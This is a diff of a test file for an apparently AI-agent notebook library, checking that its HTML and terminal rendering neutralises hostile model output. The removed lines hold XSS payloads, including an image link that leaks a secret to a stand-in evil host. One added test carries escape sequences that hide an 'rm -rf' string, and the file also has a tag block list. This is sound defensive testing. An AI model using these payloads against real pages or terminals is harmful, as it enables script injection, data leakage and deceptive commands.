@@ -2,29 +2,21 @@
 
 import asyncio
 import re
+import time
 from html.parser import HTMLParser
 
 import pytest
+from hostile import LONG, MATH, PAYLOADS
 
 from nbagent import Agent, FunctionCall, Limits, LLMResponse, ScriptedProvider, Usage
 from nbagent.core import events
 from nbagent.core.render import preview, safe_html, signature
 from nbagent.notebook.view import CellView, TerminalView, Transcript
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "![leak](http://evil.example/?secret)",
-    "[x](javascript:alert(1))",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "<svg onload=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<style>@import url(http://evil.example)</style>",
-    "`<b onclick=alert(1)>`",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "</pre></details><script>alert(1)</script>",
-    '"><script>alert(1)</script>',
-]
+LIVE = {
+    "script", "style", "button", "input", "dialog", "video", "audio", "img", "svg", "iframe", "object", "embed", "link",
+    "meta", "form", "base",
+}  # fmt: skip
 
 
 class Audit(HTMLParser):
@@ -35,10 +27,15 @@ class Audit(HTMLParser):
         self.bad = []
 
     def handle_starttag(self, tag, attrs):
-        if tag in ("script", "img", "svg", "iframe", "object", "embed", "link", "meta", "form", "base"):
+        links = dict(attrs) if tag == "a" else {}
+        if links and (links["target"] != "_blank" or "noopener" not in links["rel"]):
+            self.bad.append("opener")
+        if tag in LIVE:
             self.bad.append(tag)
         for name, value in attrs:
-            if name.startswith("on") or (name in ("href", "src") and not re.match(r"(https?|mailto):", value or "")):
+            wrong_link = name in ("href", "src") and not re.match(r"(https?|mailto):", value or "")
+            wrong_style = name == "style" and not re.fullmatch("text-align: ?[a-z]+", value)
+            if name.startswith("on") or wrong_link or wrong_style:
                 self.bad.append((name, value))
 
 
@@ -62,7 +59,10 @@ def shown(provider, *tools, live=True, **options):
     return asyncio.run(run()), bundles
 
 
-@pytest.mark.parametrize("text", HOSTILE)
+CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+@pytest.mark.parametrize("text", [payload.text for payload in PAYLOADS], ids=lambda text: ascii(text)[1:40])
 def test_hostile_text_is_harmless_everywhere(text):
     def echo(x: str) -> str:
         return x
@@ -73,6 +73,7 @@ def test_hostile_text_is_harmless_everywhere(text):
     assert audit(safe_html(text)) == []
     for bundle in bundles:
         assert audit(bundle["text/html"].replace("<style>", "", 1)) == []
+        assert not CONTROL.search(bundle["text/html"] + bundle["text/plain"])
     assert transcript.html().count("<style>") == 1
 
 
@@ -83,8 +84,43 @@ def test_markdown_is_rendered():
     assert 'rel="noopener noreferrer nofollow"' in html
 
 
-def test_a_very_long_text_is_shown_plain():
-    assert safe_html("[" * 300_000).startswith("<pre>")
+@pytest.mark.parametrize("text", LONG, ids=lambda text: text[:6])
+def test_what_takes_long_to_parse_is_shown_plain_or_soon(text):
+    begun = time.process_time()
+    assert len(safe_html(text)) < 5 * len(text)
+    assert time.process_time() - begun < 5  # seconds; it takes much less
+
+
+@pytest.mark.parametrize("text", MATH)
+def test_formulas_make_no_links_and_no_definitions(text):
+    html = safe_html(text)
+    assert "<a" not in html
+    said = re.sub("<span>.</span>", "", html)  # the backslash alone: no formula is looked for across it
+    assert not re.search(r"\\(href|style|class|cssId|unicode|require|bbox|gdef|renewcommand|let)", said)
+
+
+def test_formulas_are_left_to_the_host():
+    assert safe_html(r"$\frac{1}{\alpha}$") == "<p>$\\frac{1}{\\alpha}$</p>\n"
+    transcript = Transcript()
+    transcript.feed(events.Text("no formula, 5 %"))
+    assert '<div class="nbagent tex2jax_ignore mathjax_ignore">' in transcript.html()
+    transcript.feed(events.Text("but $x^2$"))
+    assert '<div class="nbagent">' in transcript.html()
+
+
+def test_links_lead_to_the_web_alone():
+    html = safe_html("[a](https://example.org) [b](/logout) [c](data.csv) <mailto:me@example.org>")
+    assert re.findall('href="(.*?)"', html) == ["https://example.org", "mailto:me@example.org"]
+    assert "[b](/logout) [c](data.csv)" in html
+
+
+def test_a_link_may_be_defined_after_it_is_used():
+    transcript = Transcript(timings=False)
+    transcript.feed(events.Text("See [there][1].\n\n" + "A paragraph.\n\n" * 200))
+    transcript.parts()
+    transcript.feed(events.Text("[1]: https://example.org"))
+    transcript.feed(events.Done())
+    assert 'href="https://example.org"' in transcript.html()
 
 
 def test_a_call_reads_as_one_would_type_it():
@@ -116,7 +152,7 @@ def test_what_a_cell_shows():
     assert "<strong>Adelie</strong>" in html
     assert "Thought" in html
     assert "Let me see." in html
-    assert html.count("<details>") == 2
+    assert html.count("<details ") == 2
     assert plain.splitlines()[:3] == [
         '▸ mean_by(column="body_mass_g", group="species")',
         '  {"Adelie": 3700.7}',
@@ -124,6 +160,41 @@ def test_what_a_cell_shows():
     ]
     assert re.search(r"\[m · \d+ in · \d+ out · \d+\.\d s\]$", plain)
     assert bundles[-1] == {"text/html": html, "text/plain": plain}
+
+
+ANSWER = """## How the groups differ
+
+The **third group** is heaviest, by far, in each of the years that were looked at; the others hardly differ from one
+another, as `frame.groupby("group")` shows. What remains to be seen is whether this holds for both islands.
+
+```python
+clean = frame.dropna(subset=["mass"])
+clean.groupby("group")["mass"].agg(["mean", "count"]).round(1)
+```
+
+| group | mean mass | count |
+|---|--:|--:|
+| first | 3,700.7 | 151 |
+| third | 5,076.0 | 123 |
+
+"""
+
+
+def test_a_saved_answer_is_small():
+    rows = {f"row {n}": {"mean": n / 7, "count": n, "names": "abcdefgh"} for n in range(40)}
+
+    def table(part: int) -> dict:
+        return rows
+
+    calls = [FunctionCall("table", {"part": n}, f"c{n}") for n in range(5)]
+    text = (ANSWER * 40)[:12_000]  # 2,000 tokens
+    turns = [LLMResponse("", calls, "tool_calls", {"thinking": "First all of the tables. " * 40}), text]
+    transcript, bundles = shown(ScriptedProvider(turns), table)
+    size = sum(len(text.encode()) for text in bundles[-1].values())
+    print(f"12 kB of answer and 5 tool calls are saved in {size / 1000:.1f} kB")
+    assert transcript.html().count("<details ") == 6
+    assert size < 60_000
+    assert not re.search("https?:|<script|<link|@import|url", bundles[-1]["text/html"])
 
 
 def test_headless_there_is_one_display_and_no_time_in_it():
@@ -178,6 +249,22 @@ def test_in_a_terminal_text_comes_as_it_comes(capsys):
         "**Adelie** weigh 3700.7 g.",
     ]
     assert lines[3].startswith("[m · ")
+
+
+def test_a_terminal_is_not_steered(capsys):
+    text = "\x1b]0;title\x07\x1b[2Jsafe\rrm -rf \x1b[8mhidden\x1b[0m\x08 \u202eabc"
+    calls = [FunctionCall("no\x1b[2Jtool", {"a\x1b[1A": "b\x9b2J"}, "c")]
+
+    async def run():
+        view = TerminalView(Transcript(timings=False))
+        async for event in Agent(ScriptedProvider([LLMResponse(text, calls), text])).chat_stream("question"):
+            view.feed(event)
+        view.close()
+
+    asyncio.run(run())
+    out = capsys.readouterr().out
+    assert not CONTROL.search(out)
+    assert "safe\nrm -rf hidden␈ ⟨U+202E⟩abc" in out
 
 
 def test_the_cell_says_that_the_conversation_is_being_summed_up():
